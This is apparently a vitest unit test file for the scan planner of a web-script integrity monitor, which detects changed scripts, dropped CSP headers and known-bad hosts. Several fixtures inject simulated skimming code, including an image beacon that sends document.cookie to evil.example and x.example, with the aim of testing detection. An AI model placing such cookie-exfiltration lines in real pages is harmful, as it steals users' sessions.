// Unit: the pure planner decides observations, baseline entries and alerts without touching IO.

import assert from 'node:assert/strict';
import { describe, it } from 'vitest';
import { emptyBaseline } from '../../src/plan/baseline.js';
import { planScan } from '../../src/plan/plan-scan.js';
import { fingerprint } from '../../src/plan/fingerprint.js';
import { APP, approvedBaseline, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';

const options = { removalThreshold: 2 };

const approved = approvedBaseline;

describe('planScan', () => {
  const first = planScan(healthyShop(), emptyBaseline(), options);

  it('turns a first scan into a pending inventory without alerts', () => {
    assert.equal(first.alerts.length, 0);
    assert.equal(first.scripts.length, 4);
    assert.equal(first.baselineAdds.filter((a) => a.subjectType === 'script').length, 4);
    assert.ok(first.baselineAdds.some((a) => a.subjectType === 'header' && a.subjectKey === 'content-security-policy'));
    assert.ok(first.baselineAdds.some((a) => a.subjectType === 'host' && a.subjectKey === 'cdn.example'));
    assert.equal(first.bodies.get(fingerprint(APP.body!).sha256), APP.body);
  });

  it('raises nothing on an unchanged rescan, whatever the script order', () => {
    const plan = planScan(pageCapture([INLINE_B, LIB, INLINE_A, APP]), approved(first), options);
    assert.deepEqual(plan.alerts, []);
    assert.ok(plan.scripts.every((s) => s.knownId !== null));
  });

  it('reports a changed external script with old and new hashes', () => {
    const changed = script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` });
    const plan = planScan(pageCapture([changed, LIB, INLINE_A, INLINE_B]), approved(first), options);
    assert.equal(plan.alerts.length, 1);
    const [alert] = plan.alerts;
    assert.equal(alert!.type, 'script.changed');
    // The planner rates by rule only (an unversioned URL: low); the monitor's analyzers raise it by what the code does.
    assert.equal(alert!.severity, 'low');
    assert.equal(alert!.oldValue, fingerprint(APP.body!).sha256);
    assert.equal(alert!.newValue, fingerprint(changed.body!).sha256);
  });

  it('treats a modified inline script as one change', () => {
    const modified = script({ kind: 'inline', body: `${INLINE_B.body}\nnew Image().src = "https://x.example/?c=" + document.cookie;` });
    const plan = planScan(pageCapture([APP, LIB, INLINE_A, modified]), approved(first), options);
    assert.deepEqual(plan.alerts.map((a) => a.type), ['script.changed']);
  });

  it('never reports removals from a failed load', () => {
    const failed = planScan(pageCapture([], { outcome: { ok: false, code: 'PAGE_TIMEOUT', reason: 'slow' } }), approved(first), options);
    assert.equal(failed.scan.status, 'failed');
    assert.deepEqual(failed.alerts, []);
    assert.deepEqual(failed.missing, []);
  });

  it('reports a removal only once the script was missing from enough successful scans', () => {
    const base = approved(first);
    const once = planScan(pageCapture([APP, INLINE_A, INLINE_B]), base, options);
    assert.deepEqual(once.alerts, []);
    assert.equal(once.missing.length, 1);
    const libKnown = base.scripts.find((s) => s.key === LIB.url)!;
    libKnown.missingStreak = once.missing[0]!.missingStreak;
    const twice = planScan(pageCapture([APP, INLINE_A, INLINE_B]), base, options);
    assert.deepEqual(twice.alerts.map((a) => [a.type, a.subject]), [['script.removed', LIB.url]]);
  });

  it('reports a dropped CSP and a new destination host', () => {
    const capture = healthyShop({ securityHeaders: {} });
    capture.requests.push({ url: 'https://baways.example/gateway', type: 'XHR', method: 'POST', frameUrl: null, initiatorUrl: APP.url });
    const plan = planScan(capture, approved(first), options);
    const header = plan.alerts.find((a) => a.type === 'header.changed')!;
    assert.equal(header.subject, 'content-security-policy');
    assert.equal(header.severity, 'high');
    const connection = plan.alerts.find((a) => a.type === 'connection.added')!;
    assert.equal(connection.subject, 'baways.example');
    assert.match(connection.summary, /static\/app\.js/);
  });

  it('uses the same dedupe key for the same unapproved change', () => {
    const changed = script({ kind: 'external', url: LIB.url, body: 'window.lib=1;evil()' });
    const a = planScan(pageCapture([APP, changed, INLINE_A, INLINE_B]), approved(first), options);
    const b = planScan(pageCapture([APP, changed, INLINE_A, INLINE_B]), approved(first), options);
    assert.equal(a.alerts[0]!.dedupeKey, b.alerts[0]!.dedupeKey);
    assert.equal(a.alerts[0]!.severity, 'critical', 'versioned URL');
  });

  it('reports a script from a known-bad host even on the first scan, and keeps it out of the baseline', () => {
    const polyfill = script({ kind: 'external', url: 'https://cdn.polyfill.io/v3/polyfill.min.js', body: 'window.p = 1;' });
    const knownBad = { hosts: new Set(['polyfill.io']), sources: [] };
    const plan = planScan(pageCapture([APP, polyfill]), emptyBaseline(), { ...options, knownBad });
    assert.deepEqual(plan.alerts.map((a) => [a.type, a.severity]), [['script.added', 'critical']]);
    assert.match(plan.alerts[0]!.summary, /known-bad host list/);
    assert.ok(!plan.baselineAdds.some((a) => a.subjectType === 'script' && a.subjectKey.includes('polyfill')));
  });

  it('keeps one identity across cache-busters, and reports a new query string when the rule is off for the script', () => {
    const busted = (v: string) => script({ kind: 'external', url: `${APP.url}?v=${v}`, body: APP.body });
    const base = approved(planScan(pageCapture([busted('1'), LIB]), emptyBaseline(), options));
    assert.deepEqual(planScan(pageCapture([busted('2'), LIB]), base, options).alerts, []);
    const app = base.scripts.find((k) => k.key === APP.url)!;
    app.url = `${APP.url}?v=1`;
    app.mask = { disabled: ['cache-buster'], learned: [] };
    const alerts = planScan(pageCapture([busted('2'), LIB]), base, options).alerts;
    assert.deepEqual(alerts.map((a) => a.type), ['script.changed']);
    assert.match(alerts[0]!.summary, /now loaded as .*\?v=2 \(was .*\?v=1\); the cache-buster rule is off/);
  });

  it('ignores a CSP nonce that differs on every response', () => {
    const withNonce = (nonce: string) => healthyShop({ securityHeaders: { 'content-security-policy': `script-src 'self' 'nonce-${nonce}'` } });
    const base = planScan(withNonce('r4nd0m1'), emptyBaseline(), options);
    const again = planScan(withNonce('0th3r2'), approved(base), options);
    assert.deepEqual(again.alerts, []);
  });

  it('does not judge removals from a capture cut short by the scripts-per-page limit', () => {
    const base = approved(first);
    base.scripts.forEach((k) => { k.missingStreak = 5; });
    const plan = planScan(pageCapture([APP], { truncated: ['limits.maxScriptsPerPage: 40 further scripts not recorded'] }), base, options);
    assert.deepEqual(plan.alerts, []);
    assert.deepEqual(plan.missing, []);
    assert.equal(plan.scan.warnings.length, 1);
  });

  it('still compares a body too large to store, without storing it', () => {
    const padded = script({ kind: 'external', url: APP.url, body: `${APP.body}/*${'x'.repeat(100)}*/evil()`, bodyTooLarge: true });
    const plan = planScan(pageCapture([padded, LIB, INLINE_A, INLINE_B]), approved(first), options);
    assert.deepEqual(plan.alerts.map((a) => a.type), ['script.changed']);
    assert.equal(plan.bodies.has(fingerprint(padded.body!).sha256), false);
  });
});

describe('volatile tokens', () => {
  const withToken = (token: string, stamp: number) => pageCapture([
    APP,
    script({ kind: 'external', url: 'https://stats.example/collect.js', body: `window.__stats = { build: "${stamp}", ts: ${stamp}, sid: "${token}" };\nsend(window.__stats);` }),
    script({ kind: 'inline', body: `window.csrfToken = "${token}";\nwindow.init();` }),
  ]);
  const first = planScan(withToken('q7Zx2Lp9Wm4Rt8Yv3Nb6Kd1F', 1732262400123), emptyBaseline(), options);

  it('does not alert when only timestamps, ids and tokens differ, and records the raw hash', () => {
    const again = planScan(withToken('Hk3Jd8Ls2Qw9Ez4Rx7Tc5Vb0', 1732262499999), approved(first), options);
    assert.deepEqual(again.alerts, []);
    const stats = again.scripts.find((s) => s.url === 'https://stats.example/collect.js')!;
    assert.notEqual(stats.sha256, first.scripts.find((s) => s.url === stats.url)!.sha256, 'the raw bytes did change');
    assert.match(stats.meta.masked ?? '', /volatile tokens masked/);
    assert.ok(again.scripts.every((s) => s.knownId !== null), 'the inline script kept its identity');
  });

  it('still alerts when the code around the tokens changes', () => {
    const tampered = withToken('Hk3Jd8Ls2Qw9Ez4Rx7Tc5Vb0', 1732262499999);
    tampered.scripts[2] = script({ kind: 'inline', body: 'window.csrfToken = "Hk3Jd8Ls2Qw9Ez4Rx7Tc5Vb0";\nwindow.init();\nnew Image().src = "https://evil.example/?c=" + document.cookie;' });
    const again = planScan(tampered, approved(first), options);
    assert.deepEqual(again.alerts.map((a) => a.type), ['script.changed']);
  });
});
